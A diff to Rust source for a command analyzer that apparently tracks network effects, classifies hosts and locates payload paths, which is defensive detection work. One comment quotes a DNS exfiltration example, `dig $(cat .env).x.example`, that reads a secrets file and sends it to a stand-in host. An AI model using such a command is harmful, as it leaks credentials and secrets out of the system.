@@ -197,6 +197,12 @@ impl<'a> Analyzer<'a> {
         if effect.kind == EffectKind::Net {
             self.carries(frame, &mut effect);
             hosts::classify(&mut effect);
+            hosts::consequence(&mut effect);
+            if let Some(path) = effect.attributes.text(Attr::Payload).filter(|p| p.starts_with('/'))
+            {
+                let place = paths::place(self, frame, path);
+                effect.attributes.set(Attr::PayloadPlace, place);
+            }
         }
         self.hold(effect.target.text().len());
         if self.found.effects.len() >= limits::EFFECTS {
@@ -205,6 +211,11 @@ impl<'a> Analyzer<'a> {
         } else if self.seen.insert(effect.clone()) {
             self.found.effects.push(effect);
         }
+    }
+
+    /// How many effects and remarks there are so far.
+    pub(crate) fn found(&self) -> usize {
+        self.found.effects.len() + self.found.opaque.len()
     }
 
     /// A name or address that a secret was put into takes it along: `dig $(cat .env).x.example`.
